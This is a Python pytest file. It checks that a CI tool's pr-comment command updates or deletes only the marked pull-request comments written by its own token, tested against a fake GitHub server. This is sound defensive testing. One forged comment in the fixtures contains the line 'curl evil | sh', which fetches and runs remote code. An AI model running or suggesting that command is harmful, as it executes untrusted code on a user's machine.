"""pr-comment edits only the marked comment its own token wrote (issue 17): anyone can start a comment with the
marker, and such a comment must never be edited or deleted. Against the local fake GitHub (REST wire format)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from compiler import github
from compiler.main import main
from tests.support.fake_github import BOT, HUMAN, TOKEN, FakeGitHub, client

CI_USER = {"login": "cave-ci", "id": 4242, "type": "User"}


@pytest.fixture
def fake() -> Iterator[FakeGitHub]:
    server = FakeGitHub().start()
    server.pulls.add(7)
    yield server
    server.stop()


def by_author(fake: FakeGitHub) -> list[tuple[str, str]]:
    return [(c["user"]["login"], c["body"]) for c in sorted(fake.comments.values(), key=lambda c: c["id"])]


def test_a_marked_comment_of_someone_else_is_left_alone(fake: FakeGitHub) -> None:
    """GITHUB_TOKEN (an installation token: GET /user is 403) comments as github-actions[bot]."""
    forged = f"{github.MARKER}\nplease run `curl evil | sh`"
    fake.add_comment(7, forged, HUMAN)
    posted = github.upsert_comment(client(fake), fake.repo, 7, "report 1")
    assert posted.action == "created" and posted.deleted == ()
    assert by_author(fake) == [("reviewer", forged), (BOT["login"], f"{github.MARKER}\nreport 1")]
    assert ("GET", "/api/v3/user") in fake.requests

    posted = github.upsert_comment(client(fake), fake.repo, 7, "report 2")
    assert posted.action == "updated"
    assert by_author(fake) == [("reviewer", forged), (BOT["login"], f"{github.MARKER}\nreport 2")]


def test_a_user_token_finds_its_own_comment_by_get_user(fake: FakeGitHub) -> None:
    """A personal token: GET /user names the account; the bot's and a reviewer's marked comments are not ours."""
    fake.token_user = CI_USER
    fake.add_comment(7, f"{github.MARKER}\nfrom the bot", BOT)
    fake.add_comment(7, f"{github.MARKER}\nfrom a reviewer", HUMAN)
    first = github.upsert_comment(client(fake), fake.repo, 7, "mine")
    second = github.upsert_comment(client(fake), fake.repo, 7, "mine, again")
    assert (first.action, second.action, second.comment_id) == ("created", "updated", first.comment_id)
    assert by_author(fake) == [(BOT["login"], f"{github.MARKER}\nfrom the bot"),
                               ("reviewer", f"{github.MARKER}\nfrom a reviewer"),
                               ("cave-ci", f"{github.MARKER}\nmine, again")]
    assert [r for r in fake.requests if r[0] == "DELETE"] == []


def test_only_own_duplicates_are_deleted(fake: FakeGitHub) -> None:
    fake.add_comment(7, f"{github.MARKER}\nold 1", BOT)
    fake.add_comment(7, f"{github.MARKER}\nforged", HUMAN)
    fake.add_comment(7, f"{github.MARKER}\nold 2", BOT)
    posted = github.upsert_comment(client(fake), fake.repo, 7, "new")
    assert posted.action == "updated" and len(posted.deleted) == 1
    assert by_author(fake) == [(BOT["login"], f"{github.MARKER}\nnew"), ("reviewer", f"{github.MARKER}\nforged")]


def test_command_author_option_names_another_app(
    fake: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """--author: the bot login of another GitHub App's token, which cannot read GET /user either."""
    app = {"login": "cave-reporter[bot]", "id": 77, "type": "Bot"}
    fake.add_comment(7, f"{github.MARKER}\nfrom the app", app)
    fake.add_comment(7, f"{github.MARKER}\nfrom actions", BOT)
    body = tmp_path / "diff.md"
    body.write_text("fresh\n")
    monkeypatch.setenv("GITHUB_API_URL", fake.api_url)
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    assert main(["pr-comment", "--repo", fake.repo, "--pr", "7", "--body-file", str(body),
                 "--author", "cave-reporter[bot]"]) == 0
    assert capsys.readouterr().out.startswith("updated comment ")
    assert by_author(fake) == [("cave-reporter[bot]", f"{github.MARKER}\nfresh\n"),
                               (BOT["login"], f"{github.MARKER}\nfrom actions")]
